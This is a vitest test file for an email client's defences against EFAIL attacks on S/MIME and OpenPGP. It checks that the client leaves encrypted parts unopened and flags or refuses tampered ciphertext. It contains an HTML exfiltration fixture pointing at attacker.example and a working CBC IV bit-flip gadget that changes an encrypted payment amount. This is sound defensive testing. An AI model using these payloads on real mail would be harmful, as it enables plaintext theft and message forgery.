import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  AttackLab,
  headerLines,
  message,
  multipart,
  part,
  pgpMimeEncrypted,
  pgpMimeEnvelope,
  pkcs7Mime,
  read,
  warningCodes,
} from '../helpers/attack-lab.ts'
import { hasGpg } from '../helpers/gpg.ts'
import { skipUnless } from '../helpers/needs.ts'
import { assertBuilt } from '../helpers/run-cli.ts'
import { hasOpenssl, makeTestPki, type TestPki } from '../helpers/smime-pki.ts'

/**
 * EFAIL (Poddebniak et al., USENIX Security 2018): direct exfiltration (an encrypted part between
 * attacker HTML parts, so a client that decrypts it and joins the parts sends the plaintext to the
 * attacker's URL) and the malleability gadgets of S/MIME CBC and OpenPGP CFB. Siegelpost decrypts
 * only a top-level encrypted entity and never joins it with unencrypted parts; CBC content that no
 * valid signature covers carries `unauthenticated-encryption`; OpenPGP without MDC is refused.
 */
const skip = skipUnless('gpg and openssl', hasGpg && hasOpenssl, 'apt-get install gnupg openssl')
let lab: AttackLab
let pki: TestPki
const secret = 'Steuer-ID 12 345 678 901, Einkommen 84.000 EUR'
const secretEntity = part(['Content-Type: text/plain; charset=utf-8'], `${secret}\n`)
const headers = (subject: string) => headerLines('Mandant <client@example.net>', 'alice@example.org', subject)
const leak = part(['Content-Type: text/html'], '<img src="http://attacker.example/leak?')
const close = part(['Content-Type: text/html'], '">')

/** openssl cms -encrypt to Alice (the lab's S/MIME reader) with `cipher`, as DER. */
function smimeEncrypt(content: Uint8Array, cipher: string, name: string): Buffer {
  lab.file(content, `${name}.in`)
  lab.openssl(
    ['cms', '-encrypt', '-binary', `-${cipher}`, '-in', `${name}.in`, '-outform', 'DER'].concat([
      '-out',
      `${name}.der`,
      pki.alice.certFile,
    ]),
  )
  return read(join(lab.dir, `${name}.der`))
}

/** Where the CBC IV (the OCTET STRING parameter of the content-encryption algorithm) lies in the DER. */
function ivOffset(der: Buffer): number {
  const lines = lab.openssl(['asn1parse', '-inform', 'DER'], der).toString('latin1').split('\n')
  const at = lines.findIndex((line) => /aes-256-cbc/.test(line))
  const iv = /^\s*(\d+):d=\d+\s+hl=(\d+)\s+l=\s*16 prim: OCTET STRING/.exec(lines[at + 1] ?? '')
  if (!iv) throw new Error(`no IV after aes-256-cbc in:\n${lines.slice(at, at + 2).join('\n')}`)
  return Number(iv[1]) + Number(iv[2])
}

beforeAll(() => {
  if (skip) return
  assertBuilt()
  lab = new AttackLab()
  lab.gpgKey('Alice <alice@example.org>')
  lab.importGpgKeys(['alice@example.org'])
  pki = makeTestPki(lab.dir)
  lab.openssl(['pkcs12', '-export', '-inkey', 'alice.key', '-in', 'alice.pem', '-passout', 'pass:p12', '-out', 'a.p12'])
  lab.file('p12\n', 'p12-pass')
  lab.ok('certs', 'trust', pki.ca.certFile)
  lab.ok('keys', 'import', join(lab.dir, 'a.p12'), '--passphrase-file', join(lab.dir, 'p12-pass'))
}, 120_000)
afterAll(() => lab?.close())

describe.skipIf(skip)('EFAIL direct exfiltration: an encrypted part between attacker HTML', () => {
  const check = (encrypted: Uint8Array) => {
    const doc = lab.open(message(headers('Re: Unterlagen'), multipart('mixed', 'efail', [leak, encrypted, close])))
    expect(doc.security.encryption).toMatchObject({ state: 'none', code: null })
    expect(warningCodes(doc)).toEqual(['encrypted-part-not-opened', 'partly-protected'])
    expect(doc.parts).toEqual([
      { kind: 'html', encrypted: false, signed: false },
      { kind: 'not-opened', encrypted: true, signed: false },
      { kind: 'html', encrypted: false, signed: false },
    ])
    expect(doc.text).not.toContain('Steuer-ID')
    return doc
  }

  it('OpenPGP (PGP/MIME made by gpg): left closed, never joined with the HTML', () => {
    const encrypted = pgpMimeEncrypted(lab, ['alice@example.org'], secretEntity)
    // Control: the same entity as the whole message decrypts.
    const whole = lab.open(message(headers('Unterlagen'), encrypted))
    expect(whole.text).toContain(secret)
    check(encrypted)
  })

  it('S/MIME (EnvelopedData made by openssl): left closed, never joined with the HTML', () => {
    const encrypted = pkcs7Mime(smimeEncrypt(secretEntity, 'aes-256-cbc', 'exfil'), 'enveloped-data')
    expect(lab.open(message(headers('Unterlagen'), encrypted)).text).toContain(secret)
    check(encrypted)
  })

  it('inline OpenPGP: an armored message in one text part of a multipart is left closed and reported', () => {
    const armored = lab.gpgRun(['--armor', '--trust-model', 'always', '-r', 'alice@example.org', '-e'], `${secret}\n`)
    const inline = part(['Content-Type: text/plain'], armored)
    const doc = lab.open(message(headers('Re: Unterlagen'), multipart('mixed', 'inl', [leak, inline, close])))
    expect(doc.security.encryption).toMatchObject({ state: 'none', code: null })
    expect(warningCodes(doc)).toEqual(['encrypted-part-not-opened', 'partly-protected'])
    expect(doc.parts.map((p) => [p.kind, p.encrypted])).toEqual([
      ['html', false],
      ['text', false],
      ['html', false],
    ])
    expect(doc.text).not.toContain('Steuer-ID')
  })

  it('an encrypted version of a multipart/alternative, or an attached encrypted message, is reported as not opened', () => {
    const encrypted = pgpMimeEncrypted(lab, ['alice@example.org'], secretEntity)
    const plain = part(['Content-Type: text/plain'], 'Bitte antworten Sie mit Zitat.\n')
    const alternative = lab.open(message(headers('Alt'), multipart('alternative', 'alt', [plain, encrypted])))
    expect(alternative.security.encryption).toMatchObject({ state: 'none', code: null })
    expect(warningCodes(alternative)).toEqual(['encrypted-part-not-opened', 'partly-protected'])
    expect(alternative.parts).toEqual([
      { kind: 'not-opened', encrypted: true, signed: false },
      { kind: 'text', encrypted: false, signed: false },
    ])
    expect(alternative.text).not.toContain('Steuer-ID')

    const attached = part(['Content-Type: message/rfc822'], message(headers('Original'), encrypted))
    const forwarded = lab.open(message(headers('WG: Original'), multipart('mixed', 'fwd', [plain, attached])))
    expect(forwarded.security.encryption).toMatchObject({ state: 'none', code: null })
    expect(warningCodes(forwarded)).toEqual(['encrypted-part-not-opened', 'partly-protected'])
    expect(forwarded.parts).toEqual([
      { kind: 'text', encrypted: false, signed: false },
      { kind: 'not-opened', encrypted: true, signed: false },
    ])
    // It stays an attachment that can be saved and opened on its own.
    expect(forwarded.attachments.map((a) => a.contentType)).toEqual(['message/rfc822'])
    expect(forwarded.text).not.toContain('Steuer-ID')
  })
})

describe.skipIf(skip)('CBC and CFB gadgets', () => {
  it('S/MIME CBC: a flipped IV changes the text and it still decrypts — with unauthenticated-encryption', () => {
    // A body without header fields (it starts with the empty line), so the first block is shown text.
    const content = Buffer.from('\r\nBetrag: 100 EUR an Konto DE02 1203 0000 0000 2020 51.\r\n')
    const der = smimeEncrypt(content, 'aes-256-cbc', 'cbc')
    const original = lab.open(message(headers('Zahlung'), pkcs7Mime(der, 'enveloped-data')))
    expect(original.security.encryption).toMatchObject({ state: 'encrypted', code: 'ENCRYPTION_DECRYPTED' })
    expect(original.text).toContain('Betrag: 100 EUR')
    expect(warningCodes(original)).toEqual(['unauthenticated-encryption'])

    // The gadget: IV xor ('1' xor '9') at the digit's position turns 100 into 900, nothing else changes.
    const tampered = Buffer.from(der)
    const at = ivOffset(der) + content.indexOf('100')
    tampered[at]! ^= '1'.charCodeAt(0) ^ '9'.charCodeAt(0)
    const doc = lab.open(message(headers('Zahlung'), pkcs7Mime(tampered, 'enveloped-data')))
    expect(doc.text).toContain('Betrag: 900 EUR')
    expect(doc.security.encryption.state).toBe('encrypted')
    expect(warningCodes(doc)).toEqual(['unauthenticated-encryption'])
    expect(doc.security.warnings[0]!.text).toMatch(/changed/i)
    expect(doc.parts).toEqual([{ kind: 'text', encrypted: true, signed: false }])
  })

  it('S/MIME AES-GCM (AuthEnvelopedData): no warning, and one flipped byte makes it fail with nothing shown', () => {
    const der = smimeEncrypt(secretEntity, 'aes-256-gcm', 'gcm')
    const good = lab.open(message(headers('GCM'), pkcs7Mime(der, 'authEnveloped-data')))
    expect(good.security.encryption.state).toBe('encrypted')
    expect(warningCodes(good)).toEqual([])
    const tampered = Buffer.from(der)
    const at = tampered.indexOf(Buffer.from(secret.slice(0, 4))) // ciphertext never holds the plaintext
    expect(at).toBe(-1)
    tampered[tampered.length - 40]! ^= 0x01
    const doc = lab.open(message(headers('GCM'), pkcs7Mime(tampered, 'authEnveloped-data')))
    expect(doc.security.encryption.state).toBe('failed')
    expect(doc.text).toBe('')
    expect(doc.parts).toEqual([])
  })

  it('OpenPGP CFB without MDC (gpg --rfc2440) is refused: failed with ENCRYPTION_NO_INTEGRITY, nothing shown', () => {
    const armored = lab.gpgRun(
      ['--armor', '--trust-model', 'always', '--rfc2440', '--cipher-algo', 'AES256', '-r', 'alice@example.org', '-e'],
      secretEntity,
    )
    const packets = lab.gpg.run(['--list-packets'], armored).stdout.toString()
    expect(packets).toMatch(/:encrypted data packet:/)
    expect(packets).not.toMatch(/mdc_method/)
    const doc = lab.open(message(headers('Alt'), pgpMimeEnvelope(armored)))
    expect(doc.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_NO_INTEGRITY' })
    expect(doc.text).toBe('')
    expect(doc.parts).toEqual([])
  })

  it('OpenPGP with MDC: a flipped ciphertext bit fails the integrity check, nothing of the plaintext is shown', () => {
    const binary = lab.gpgRun(['--trust-model', 'always', '-r', 'alice@example.org', '-e'], secretEntity)
    const tampered = Buffer.from(binary)
    tampered[tampered.length - 30]! ^= 0x01
    const armored = lab
      .gpgRun(['--enarmor'], tampered)
      .toString()
      .replace(/ARMORED FILE/g, 'MESSAGE')
    const doc = lab.open(message(headers('CFB'), pgpMimeEnvelope(armored)))
    expect(doc.security.encryption.state).toBe('failed')
    expect(['ENCRYPTION_ALTERED', 'ENCRYPTION_DAMAGED']).toContain(doc.security.encryption.code)
    expect(doc.text).toBe('')
  })
})
